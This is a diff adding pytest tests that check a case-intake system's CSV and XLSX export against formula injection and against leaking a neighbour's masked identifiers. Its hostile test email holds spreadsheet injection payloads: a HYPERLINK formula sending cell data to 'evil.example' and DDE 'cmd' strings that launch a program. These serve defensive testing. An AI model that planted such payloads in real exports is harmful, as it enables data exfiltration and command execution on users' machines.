@@ -264,3 +264,128 @@ def test_xlsx_needs_an_output_file(store: Path, capsys: pytest.CaptureFixture[st
 def test_export_of_an_empty_store(capsys: pytest.CaptureFixture[str]) -> None:
     code, out, _ = invoke(capsys, "cases", "export")
     assert code == 0 and out == ""
+
+
+# --- attacks on the export (issue 9, items 9 to 11) -----------------------------------
+
+NEIGHBOUR_ID = thai_id("310060044563")
+NEIGHBOUR_PHONE = "089-123-4567"
+NEIGHBOUR_EMAIL = "neighbour.x@example.net"
+FORMULAS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = mail(
+    "<hostile-1@example.org>",
+    "คำร้องทั่วไป",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"เปิด")',  # a line of its own: no field
+        "ชื่อ-นามสกุล: =cmd|' /C calc'!A0",
+        f"เลขประจำตัวประชาชน: {GENERAL_ID}",
+        "โทรศัพท์: 02-123-4567",
+        "เรื่อง: +SUM(1;2)*cmd|' /C calc'!A0",
+        f"รายละเอียด: -2+3 เพื่อนบ้าน เลข {NEIGHBOUR_ID[:1]}-{NEIGHBOUR_ID[1:5]}-"
+        f"{NEIGHBOUR_ID[5:10]}-{NEIGHBOUR_ID[10:12]}-{NEIGHBOUR_ID[12]} โทร {NEIGHBOUR_PHONE}"
+        f" อีเมล {NEIGHBOUR_EMAIL} แจ้ง ด้วย",
+    ],
+)
+NEIGHBOUR_SECRETS = [NEIGHBOUR_ID, NEIGHBOUR_PHONE, "0891234567", NEIGHBOUR_EMAIL]
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Cases whose values start like formulas and name a neighbour; one case erased."""
+    root = tmp_path_factory.mktemp("export-hostile")
+    config = write_config(root / "agency.toml", data_dir=root / "var", mailboxes=[])
+    with pytest.MonkeyPatch.context() as patch:
+        for key in [k for k in os.environ if k.startswith("INTAKE_")]:
+            patch.delenv(key)
+        ctx = open_context(load_settings(config))
+    folder = root / "mail"
+    folder.mkdir()
+    for n, raw in enumerate([COMPLAINT, HOSTILE, GENERAL]):
+        (folder / f"{n}.eml").write_bytes(raw)
+    import_paths(ctx, [folder])
+    process_due(ctx)
+    erase_first_case(ctx)
+    return config
+
+
+def erase_first_case(ctx: Any) -> None:
+    from sqlmodel import col, select
+
+    from storage.db import transaction
+    from storage.models import Case
+    from storage.privacy import Actor
+    from storage.retention import erase_case
+
+    with transaction(ctx.engine) as session:
+        first = session.execute(select(Case).order_by(col(Case.id))).scalars().first()
+        assert first is not None and first.id is not None
+        erase_case(
+            session,
+            case_id=first.id,
+            actor=Actor(name="dpo", role="compliance"),
+            purpose="PDPA §33 erasure request",
+            keyring=ctx.keyring,
+        )
+
+
+def test_one_erased_case_leaves_a_tombstone_and_the_rest_export(
+    hostile_store: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    records = jsonl_records(capsys, hostile_store)
+    assert len(records) == 3
+    erased, hostile, general = records
+    assert erased["status"] == "erased" and erased["fields"] == {}
+    assert erased["receipt_no"].endswith("000001") and erased["message_id"] is None
+    assert hostile["template"] == "general_request" and general["fields"]["national_id"]
+    revealed = jsonl_records(capsys, hostile_store, "--reveal", "--reason", "ตรวจสอบการส่งออก")
+    assert [r["status"] for r in revealed] == ["erased", "new", "new"]
+    assert revealed[2]["fields"]["national_id"] == GENERAL_ID
+
+
+def test_a_masked_export_masks_identifiers_in_every_text_field(
+    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = export(capsys, hostile_store, "--format", "jsonl")
+    assert code == 0
+    hostile = [json.loads(line) for line in out.splitlines()][1]
+    details = hostile["fields"]["details"]
+    assert details.startswith("-2+3 เพื่อนบ้าน") and "แจ้ง" in details  # the request stays
+    for secret in NEIGHBOUR_SECRETS:
+        assert secret not in out
+    assert f"-xxxxx-xx-{NEIGHBOUR_ID[12]}" in details and "4567" in details
+    target = tmp_path / "hostile.csv"
+    assert export(capsys, hostile_store, "--format", "csv", "--output", str(target))[0] == 0
+    for secret in NEIGHBOUR_SECRETS:
+        assert secret not in target.read_text(encoding="utf-8-sig")
+
+
+def test_no_csv_cell_is_a_formula(
+    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for extra in ([], ["--reveal", "--reason", "ตรวจสอบการส่งออก"]):
+        target = tmp_path / "cells.csv"
+        code, _, err = export(
+            capsys, hostile_store, "--format", "csv", "--output", str(target), *extra
+        )
+        assert code == 0, err
+        rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
+        cells = [cell for row in rows for cell in row]
+        assert any("SUM(1;2)" in c for c in cells) and any("-2+3" in c for c in cells)
+        bad = [c for c in cells if c[:1] in FORMULAS]
+        assert not bad, f"cells a spreadsheet would run as formulas: {bad}"
+
+
+def test_no_xlsx_cell_is_a_formula(
+    hostile_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for extra in ([], ["--reveal", "--reason", "ตรวจสอบการส่งออก"]):
+        target = tmp_path / "cells.xlsx"
+        code, _, err = export(
+            capsys, hostile_store, "--format", "xlsx", "--output", str(target), *extra
+        )
+        assert code == 0, err
+        sheet = load_workbook(target)["cases"]
+        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert any("SUM(1;2)" in str(c.value) for c in cells)
+        assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells"
+        assert not [c.value for c in cells if str(c.value)[:1] in FORMULAS]
